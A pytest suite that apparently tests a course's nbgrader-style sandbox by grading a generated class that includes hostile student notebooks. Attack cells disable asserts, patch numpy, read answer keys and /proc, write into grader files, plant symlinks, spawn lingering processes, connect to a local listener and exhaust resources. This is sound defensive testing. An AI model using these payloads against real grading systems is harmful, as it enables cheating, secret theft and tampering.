"""`make grade` as students would try it, honest and cheating: a class graded once, then its outputs checked.

The class is made from the current ``notebooks/`` (so it follows every notebook change). For each exercise in
:data:`ATTACKED` (three cheap ones): ``honest`` (the student version with the solutions typed in), ``release`` (the
same answers in nbgrader's release form, with its cell metadata), ``colab`` (after a round trip that drops cell ids
and adds tool metadata), ``blank`` (untouched), and one student per attack, each an attack cell put into the blank
notebook: whatever an attack achieves, it must not earn more than ``blank`` (0 points). 4.1 also gets the resource
abuses and broken files of "bad input" (§4 of the grading issue). While the class is graded, a TCP listener waits
on 127.0.0.1 for a connection from a sandbox; afterwards no process of the class may be left, and nothing outside
the sandboxes' scratch copies may have changed but ``grades.csv``, ``report.md`` and ``feedback/``.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import socket
import threading
import time
from pathlib import Path

import nbformat
import numpy as np
import psutil
import pytest

from dlphys.course import grading, notebooks, sandbox
from dlphys.course.submission import normalise

ROOT = Path(__file__).resolve().parents[2]
ATTACKED = ["04_1_network_by_hand", "03_2_wine_linear_regression", "04_3_softmax_crossentropy"]
MAIN = ATTACKED[0]
MARKER = "dlphys-attack-marker"
LIMITS = sandbox.Limits(wall=120, cell=30, memory=2 * sandbox.GiB, processes=256)

pytestmark = pytest.mark.skipif(
    os.environ.get("DLPHYS_SKIP_SANDBOX") == "1", reason="DLPHYS_SKIP_SANDBOX=1: no sandbox on this machine"
)


def _solution(name):
    return nbformat.read(ROOT / "solutions" / f"{name}.ipynb", as_version=4)


def _blank(name):
    return nbformat.read(ROOT / "notebooks" / f"{name}.ipynb", as_version=4)


def _with_cell(nb, source, position=3):
    """``nb`` with a code cell of the student's put in after the set-up cells (or at the end: position=None)."""
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    if position is None:
        nb.cells.append(cell)
    else:
        nb.cells.insert(position, cell)
    return nb


def _release(name, answers=True):
    """The nbgrader release form (the course's cell metadata on every cell), with the honest answers or blank."""
    source = notebooks.course_source(_solution(name), name)
    nb = notebooks.answered(_solution(name), name) if answers else _blank(name)
    for cell, meta in zip(nb.cells, source.cells, strict=True):
        cell.metadata["nbgrader"] = meta.metadata["nbgrader"]
    return nb


def _colab(name):
    """The honest answers after a Colab/JupyterLab round trip: no cell ids, tool metadata, outputs."""
    nb = notebooks.answered(_solution(name), name)
    nb.nbformat_minor = 4
    for cell in nb.cells:
        cell.pop("id", None)
        cell.metadata["colab"] = {"base_uri": "https://localhost:8080/"}
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", text="old output\n")]
    nb.metadata["colab"] = {"provenance": []}
    return nb


def _attacks(paths: dict[str, str]) -> dict[str, str]:
    """Attack cells, each put into the blank notebook; ``paths`` are the grader's folders to reach for."""
    return {
        "input_transformer": (
            "def _skip(lines):\n"
            "    return ['pass\\n'] if lines and lines[0].startswith(('# Grading', 'def _dlphys')) else lines\n"
            "get_ipython().input_transformers_cleanup.append(_skip)"
        ),
        "ast_transformer": (
            "import ast\n"
            "class _NoAsserts(ast.NodeTransformer):\n"
            "    def visit_Assert(self, node):\n"
            "        return ast.Pass()\n"
            "get_ipython().ast_transformers.append(_NoAsserts())"
        ),
        "pre_run_cell_output": (
            "from IPython.display import display\n"
            "def _fake(info):\n"
            "    display({'text/plain': '10 points'}, raw=True)\n"
            "get_ipython().events.register('pre_run_cell', _fake)"
        ),
        "hidden_tracebacks": (
            "get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"
            "import sys\nsys.excepthook = lambda *args: None"
        ),
        "patched_numpy": (
            "import numpy as np\n"
            "np.allclose = np.isclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None"
        ),
        "reads_answer_key": (
            "import glob, json, os\n"
            f"for _pattern in {paths['globs']!r}:\n"
            "    for _path in glob.glob(_pattern, recursive=True):\n"
            "        try:\n"
            "            open(_path, 'rb').read(10)\n"
            "        except OSError:\n"
            "            continue\n"
            "        print('LE' + 'AK', _path, flush=True)\n"
            "        if _path.endswith('.ipynb') and 'solutions' in _path:\n"
            "            for _cell in json.load(open(_path))['cells']:\n"
            "                if _cell['cell_type'] == 'code' and 'BEGIN SOLUTION' in ''.join(_cell['source']):\n"
            "                    exec(''.join(_cell['source']))\n"
            "try:\n"
            "    import dlphys.course.checks as _checks\n"
            "    print('LE' + 'AK', 'dlphys.course.checks', _checks.__file__)\n"
            "except ImportError:\n"
            "    pass"
        ),
        "writes_everywhere": (
            "import os\n"
            f"for _path in {paths['writes']!r}:\n"
            "    try:\n"
            "        with open(_path, 'w') as _f:\n"
            "            _f.write('pwned')\n"
            "        print('WR' + 'OTE', _path)\n"
            "    except OSError:\n"
            "        pass"
        ),
        "spies_on_the_grader": (
            "import glob, json, os, stat\n"
            "_seen = sorted(glob.glob('/grader/**', recursive=True) + glob.glob('/scratch/**', recursive=True))\n"
            "for _path in _seen:\n"
            "    if _path.endswith(('.npz', 'spec.json')):\n"
            "        print('LE' + 'AK', _path)\n"
            "for _pid in [p for p in os.listdir('/proc') if p.isdigit() and int(p) != os.getpid()]:\n"
            "    for _what in ('fd', 'mem', 'environ'):\n"
            "        try:\n"
            "            if _what != 'fd':\n"
            "                open(f'/proc/{_pid}/{_what}', 'rb').read(1)\n"
            "                print('LE' + 'AK', _pid, _what)\n"
            "                continue\n"
            "            for _fd in os.listdir(f'/proc/{_pid}/fd'):\n"
            "                _target = os.readlink(f'/proc/{_pid}/fd/{_fd}')\n"
            "                if _target.startswith('/') and not _target.startswith(('/dev', '/scratch')):\n"
            "                    print('LE' + 'AK', _pid, _fd, _target)\n"
            "        except OSError:\n"
            "            pass\n"
            # its own descriptors and environment: the runner's channels must not be inherited by the kernel
            "for _fd in os.listdir('/proc/self/fd'):\n"
            "    try:\n"
            "        _target = os.readlink(f'/proc/self/fd/{_fd}')\n"
            "    except OSError:\n"
            "        continue\n"
            "    if '/private/' in _target:  # the runner's channels (scratch.log is the kernel's own stdout)\n"
            "        print('LE' + 'AK', 'own fd', _fd, _target)\n"
            "_channels = [k for k in os.environ if k.startswith('DLPHYS_') and k.endswith('_FD')]\n"
            "if _channels:\n"
            "    print('LE' + 'AK', 'env', _channels)\n"
            "print('CMDLINE', open('/proc/1/cmdline').read().replace(chr(0), ' '))\n"
            "os.makedirs('/scratch/out', exist_ok=True)\n"
            "json.dump({'done': 0, 'of': 99, 'errors': [], 'timeouts': [], 'dead': True, 'probe': []},\n"
            "          open('/scratch/out/cells.json', 'w'))\n"
            "json.dump({'cells': [], 'metadata': {}, 'nbformat': 4, 'nbformat_minor': 5},\n"
            "          open('/scratch/out/executed.ipynb', 'w'))"
        ),
        "links_its_results": (
            "import os\n"
            "def _swap(*args):\n"
            "    if os.path.isfile('/scratch/out/results.json') and not os.path.islink('/scratch/out/results.json'):\n"
            "        for _name in ('results.json', 'results.npz'):\n"
            "            os.remove('/scratch/out/' + _name)\n"
            f"            os.symlink({paths['planted']!r} + '/' + _name, '/scratch/out/' + _name)\n"
            "get_ipython().events.register('post_run_cell', _swap)"
        ),
        "outlives_the_notebook": (
            "import os, subprocess, time\n"
            f"subprocess.Popen(['sh', '-c', 'sleep 300 # {MARKER}'], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            f"        os.execvp('sh', ['sh', '-c', 'sleep 301 # {MARKER}'])\n"
            "    os._exit(0)\n"
            "time.sleep(0.5)"
        ),
        "connects_out": (
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {paths['port']}), timeout=3).sendall(b'leak')\n"
            "    print('CONN' + 'ECTED')\n"
            "except OSError as exc:\n"
            "    print('no connection:', exc)"
        ),
    }


ABUSES = {
    "prints_50_mb": "print('x' * 50_000_000)",
    "allocates_past_the_limit": "_block = bytearray(3 * 2**30)\n_block[::4096] = b'x' * len(_block[::4096])",
    "forks_500": (
        "import subprocess\n_kids = []\nfor _ in range(500):\n"
        f"    _kids.append(subprocess.Popen(['sh', '-c', 'sleep 60 # {MARKER}']))"
    ),
    "sleeps_forever": "import time\ntime.sleep(10**6)",
    "ignores_sigint": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
}


def _tree_digest(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, str]:
    out = {}
    for path in sorted(folder.rglob("*")):
        rel = path.relative_to(folder).as_posix()
        if path.is_file() and not path.is_symlink() and not rel.startswith(skip):
            out[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def make_class(folder: Path, out: Path, port: int) -> dict[str, str]:
    """Write the class into ``folder``; return student -> what they did."""
    what = {}

    def hand_in(student, name, nb, filename=None):
        path = folder / student / (filename or f"{name}.ipynb")
        path.parent.mkdir(parents=True, exist_ok=True)
        nbformat.write(nb, path)
        what[student] = student

    paths = {
        "globs": [
            f"{ROOT}/solutions/*.ipynb",
            f"{ROOT}/src/dlphys/course/checks/*.py",
            f"{folder}/**/*.ipynb",
            f"{out}/**/*",
            f"{ROOT}/**/*.db",
            f"{ROOT}/**/*.ipynb",
            "/root/**/*.ipynb",
            "/tmp/**/*",
        ],
        "writes": [
            str(out / "grades.csv"),
            str(out / "report.md"),
            str(folder / "honest_04_1" / f"{MAIN}.ipynb"),
            str(ROOT / "solutions" / f"{MAIN}.ipynb"),
            str(ROOT / "src" / "dlphys" / "course" / "checks" / "ex04_1.py"),
            "/tmp/x",
            "/etc/dlphys-pwned",
        ],
        "port": port,
        "planted": str(out.parent / "planted"),  # results on the grader's machine that a link could point at
    }
    planted = out.parent / "planted"
    planted.mkdir(exist_ok=True)
    (planted / "results.json").write_text(json.dumps({"results": {}}))
    np.savez(planted / "results.npz")
    for name in ATTACKED:
        short = name[:4]
        hand_in(f"honest_{short}", name, notebooks.answered(_solution(name), name))
        hand_in(f"release_{short}", name, _release(name), filename=f"{short}-release.ipynb")
        hand_in(f"colab_{short}", name, _colab(name), filename=f"Copy of {name}.ipynb")
        hand_in(f"blank_{short}", name, _blank(name))
        for attack, source in _attacks(paths).items():
            if name == MAIN or attack in ("input_transformer", "patched_numpy", "reads_answer_key"):
                hand_in(f"{attack}_{short}", name, _with_cell(_blank(name), source))
    for abuse, source in ABUSES.items():
        hand_in(abuse, MAIN, _with_cell(_blank(MAIN), source))
    # given data overwritten after honest work without training: the untrained network "fits" its own outputs
    lazy = notebooks.answered(_solution(MAIN), MAIN)
    for cell in lazy.cells:
        if "for _epoch in range(EPOCHS)" in cell.source:
            cell.source = (
                "def mse(params, x, t):\n    return np.mean((forward(params, x)[0] - t) ** 2)\n\n"
                "y_train = forward(params, x_train)[0]\ny_test = forward(params, x_test)[0]\n"
                "history = {'train': [1.0] + [mse(params, x_train, y_train)] * EPOCHS,\n"
                "           'test': [1.0] + [mse(params, x_test, y_test)] * EPOCHS}"
            )
    hand_in("overwrites_given_data", MAIN, lazy)
    # metadata edits: the release form with its checks unlocked and a given cell changed
    meta = _release(MAIN, answers=False)
    for cell in meta.cells:
        if cell.source.startswith("# Grading"):
            cell.metadata["nbgrader"].update(grade=False, locked=False, solution=True)
            cell.source = "# Grading: task 1 (1 point)\npass"
        if "EPOCHS = " in cell.source:
            cell.source = cell.source.replace("EPOCHS = config.pick(full=40, fast=3)", "EPOCHS = 0")
    hand_in("edits_metadata", MAIN, meta)
    # broken files and odd folders
    (folder / "grace").mkdir()
    (folder / "grace" / f"{MAIN}.ipynb").write_text('{"cells": [', encoding="utf-8")
    (folder / "heidi").mkdir()
    (folder / "heidi" / f"{MAIN}.ipynb").write_bytes(os.urandom(4096))
    (folder / "ivan").mkdir()
    old = (ROOT / "notebooks" / f"{MAIN}.ipynb").read_text(encoding="utf-8")
    (folder / "ivan" / f"{MAIN}.ipynb").write_text(old.replace('"nbformat": 4', '"nbformat": 3'), encoding="utf-8")
    (folder / "judy").mkdir()
    with open(folder / "judy" / f"{MAIN}.ipynb", "wb") as handle:
        handle.truncate(200 * 2**20)  # 200 MB, sparse
    (folder / "ken").mkdir()
    os.symlink("/etc/passwd", folder / "ken" / f"{MAIN}.ipynb")
    (folder / "leo").mkdir()
    outside = folder.parent / "outside.ipynb"
    nbformat.write(notebooks.answered(_solution(MAIN), MAIN), outside)
    os.link(outside, folder / "leo" / f"{MAIN}.ipynb")
    (folder / "mia").mkdir()
    nbformat.write(_blank(MAIN), folder / "mia" / "99_9_not_an_exercise.ipynb")
    for twin in ("Nina", "Nina!"):
        (folder / twin).mkdir()
        nbformat.write(_blank(MAIN), folder / twin / f"{MAIN}.ipynb")
    (folder / "..odd\nname").mkdir()
    nbformat.write(_blank(MAIN), folder / "..odd\nname" / f"../{MAIN}.ipynb".replace("../", "..%2F"))
    os.symlink(folder / "honest_04_1", folder / "zz_linked_folder")
    return what


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    base = tmp_path_factory.mktemp("grading")
    folder, out = base / "submissions", base / "out"
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    arrived: list[bytes] = []
    stop = threading.Event()

    def accept():
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            arrived.append(conn.recv(100))
            conn.close()

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    make_class(folder, out, listener.getsockname()[1])
    before = {
        "submissions": _tree_digest(folder),
        "solutions": _tree_digest(ROOT / "solutions"),
        "checks": _tree_digest(ROOT / "src" / "dlphys" / "course"),
    }
    start = time.monotonic()
    results = grading.grade(folder, out, ROOT / "solutions", LIMITS, jobs=2, seed=20261206)
    seconds = time.monotonic() - start
    time.sleep(1)
    stop.set()
    thread.join()
    listener.close()
    after = {
        "submissions": _tree_digest(folder),
        "solutions": _tree_digest(ROOT / "solutions"),
        "checks": _tree_digest(ROOT / "src" / "dlphys" / "course"),
    }
    by = {(r.student, r.exercise): r for r in results}
    rows = list(csv.DictReader(open(out / "grades.csv", encoding="utf-8")))
    return {
        "by": by,
        "rows": rows,
        "out": out,
        "before": before,
        "after": after,
        "arrived": arrived,
        "report": (out / "report.md").read_text(encoding="utf-8"),
        "seconds": seconds,
        "folder": folder,
    }


def _auto(result) -> tuple[float, float]:
    rows = result.rows()
    return (
        sum(float(p) for _, kind, p, _, _ in rows if kind == "auto" and p),
        sum(float(m) for _, kind, _, m, _ in rows if kind == "auto"),
    )


@pytest.mark.parametrize("name", ATTACKED)
@pytest.mark.parametrize("form", ["honest", "release", "colab"])
def test_honest_work_earns_full_points_in_every_form(graded, name, form):
    result = graded["by"][(f"{form}_{name[:4]}", name)]
    got, total = _auto(result)
    assert result.status == "graded" and got == total == 10, (result.status, result.reasons, result.verdicts)


@pytest.mark.parametrize("name", ATTACKED)
def test_blank_notebook_gets_no_points_and_a_reason_per_check(graded, name):
    result = graded["by"][(f"blank_{name[:4]}", name)]
    assert result.status == "graded" and _auto(result) == (0, 10)
    assert all(v["message"] for v in result.verdicts)


@pytest.mark.parametrize(
    ("student", "name"),
    [(a, MAIN) for a in _attacks({"globs": [], "writes": [], "port": 0, "planted": ""})]
    + [(a, n) for n in ATTACKED[1:] for a in ("input_transformer", "patched_numpy", "reads_answer_key")]
    + [(a, MAIN) for a in ABUSES]
    + [("edits_metadata", MAIN)],
)
def test_no_attack_earns_more_than_a_blank_notebook(graded, student, name):
    key = student if student in ABUSES or student == "edits_metadata" else f"{student}_{name[:4]}"
    result = graded["by"][(key, name)]
    assert _auto(result)[0] == 0, result.verdicts


def test_overwritten_given_data_does_not_make_an_untrained_network_pass(graded):
    result = graded["by"][("overwrites_given_data", MAIN)]
    per_task = {v["task"]: v for v in result.verdicts if v["points"] < v["max_points"]}
    assert {"4", "5"} <= set(per_task), result.verdicts


def test_answer_key_gradebook_and_other_students_are_out_of_reach(graded):
    for student in ("reads_answer_key_04_1", "reads_answer_key_03_2", "reads_answer_key_04_3"):
        html = (graded["out"] / "feedback" / student).glob("*.html")
        text = "".join(p.read_text(encoding="utf-8") for p in html)
        assert "LEAK" not in text, text[text.find("LEAK") - 200 : text.find("LEAK") + 200]
        assert "no results" not in text


def test_grader_inputs_and_the_runners_record_are_out_of_the_notebooks_reach(graded):
    """The fresh inputs reach the kernel only after the last cell; the record of the run cannot be forged."""
    student = "spies_on_the_grader_04_1"
    text = (graded["out"] / "feedback" / student / f"{MAIN}.html").read_text(encoding="utf-8")
    assert "CMDLINE" in text  # the attack ran
    assert "LEAK" not in text, text[text.find("LEAK") - 200 : text.find("LEAK") + 200]
    assert "--ro-bind" not in text  # bubblewrap's options (host paths) are not on its command line
    notes = " ".join(graded["by"][(student, MAIN)].notes)
    assert "kernel died" not in notes  # the forged cells.json was not read
    assert "Exercise 4.1" in text  # the executed notebook shown is the runner's, not the forged one


def test_results_are_never_read_through_a_link_the_notebook_planted(graded):
    """Links in /scratch/out to files of the grader's machine (another student's results) are not followed."""
    result = graded["by"][("links_its_results_04_1", MAIN)]
    assert any("returned no results" in reason for reason in result.reasons), (result.reasons, result.verdicts)


def test_nothing_outside_the_scratch_copies_changed(graded):
    assert graded["before"] == graded["after"]
    text = (graded["out"] / "feedback" / "writes_everywhere_04_1" / f"{MAIN}.html").read_text(encoding="utf-8")
    assert "WROTE" not in text and "pwned" not in (graded["out"] / "grades.csv").read_text()
    assert not Path("/etc/dlphys-pwned").exists()


def test_no_connection_arrived_and_no_process_is_left(graded):
    assert graded["arrived"] == []
    left = []
    for process in psutil.process_iter(["cmdline", "uids"]):
        cmdline = " ".join(process.info["cmdline"] or [])
        uid = process.info["uids"].real if process.info["uids"] else 0
        if MARKER in cmdline or sandbox.UID_BASE <= uid < sandbox.UID_BASE + sandbox.UID_SPAN:
            left.append((process.pid, uid, cmdline[:80]))
    assert left == []


def test_tampering_is_flagged_for_the_instructor(graded):
    report = graded["report"]
    flags = report.split("## Flags for the instructor", 1)[1].split("\n## ", 1)[0]
    for student in (
        "input_transformer_04_1",
        "ast_transformer_04_1",
        "pre_run_cell_output_04_1",
        "hidden_tracebacks_04_1",
        "patched_numpy_04_1",
        "outlives_the_notebook_04_1",
    ):
        assert f"**{student} / {MAIN}**" in flags, student
    assert "**honest_04_1 /" not in flags and "**blank_04_1 /" not in flags


def test_resource_abuse_is_stopped_with_a_reason(graded):
    by = graded["by"]
    notes = {s: " ".join(by[(s, MAIN)].notes + by[(s, MAIN)].reasons) for s in ABUSES}
    assert "memory" in notes["allocates_past_the_limit"] or "died" in notes["allocates_past_the_limit"]
    assert "processes" in notes["forks_500"] or "BlockingIOError" in notes["forks_500"]
    assert "stopped after the 30 s limit per cell" in notes["sleeps_forever"]
    # a cell that ignores the interrupt is not waited for until the wall time: its kernel is stopped
    assert "went on after the interrupt at the 30 s limit per cell" in notes["ignores_sigint"]
    assert by[("ignores_sigint", MAIN)].seconds < LIMITS.wall - 30
    html = (graded["out"] / "feedback" / "prints_50_mb" / f"{MAIN}.html").stat().st_size
    assert html < 5 * 2**20  # the 50 MB of output are cut


def test_bad_files_and_folders_get_a_reason_and_the_batch_goes_on(graded):
    by, report = graded["by"], graded["report"]
    assert by[("grace", MAIN)].status == "rejected" and "invalid JSON" in by[("grace", MAIN)].reasons[0]
    assert by[("heidi", MAIN)].status == "rejected" and "UTF-8" in by[("heidi", MAIN)].reasons[0]
    assert by[("ivan", MAIN)].status == "rejected" and "nbformat" in by[("ivan", MAIN)].reasons[0]
    assert by[("judy", MAIN)].status == "rejected" and "MB" in by[("judy", MAIN)].reasons[0]
    assert by[("ken", MAIN)].status == "rejected" and "symbolic link" in by[("ken", MAIN)].reasons[0]
    assert by[("leo", MAIN)].status == "rejected" and "hard link" in by[("leo", MAIN)].reasons[0]
    assert "99_9_not_an_exercise.ipynb: not an exercise" in report
    assert "same student id 'Nina'" in report
    assert "zz_linked_folder: a symbolic link" in report
    assert ("odd_name", MAIN) in by  # an odd folder name becomes a safe id


def test_grades_csv_and_report_come_from_the_same_records(graded):
    rows, report = graded["rows"], graded["report"]
    assert list(rows[0]) == ["student", "exercise", "task", "kind", "points", "max_points", "status"]
    digest = hashlib.sha256((graded["out"] / "grades.csv").read_bytes()).hexdigest()
    assert f"grades.csv SHA-256: `{digest}`" in report
    for (student, exercise), result in graded["by"].items():
        got, total = _auto(result)
        csv_got = sum(
            float(r["points"] or 0)
            for r in rows
            if (r["student"], r["exercise"]) == (student, exercise) and r["kind"] == "auto"
        )
        assert csv_got == got
        if result.status == "graded":
            assert f"**{exercise}**: graded, {got:g} / {total:g} auto points" in report
    manual = [r for r in rows if r["student"] == "honest_04_1" and r["kind"] == "manual"]
    assert manual and all(r["points"] == "" for r in manual)


def test_edits_of_given_cells_and_metadata_are_reported_per_cell(graded):
    notes = " ".join(graded["by"][("edits_metadata", MAIN)].notes)
    assert "visible check edited by the student" in notes
    assert "given cell edited by the student" in notes
    assert "nbgrader metadata was changed" in notes


def test_every_submission_form_normalises_to_the_same_notebook():
    name = MAIN
    course = _blank(name)
    forms = [notebooks.answered(_solution(name), name), _release(name), _colab(name)]
    sources = [[c.source for c in normalise(nb, course).notebook.cells] for nb in forms]
    assert sources[0] == sources[1] == sources[2]
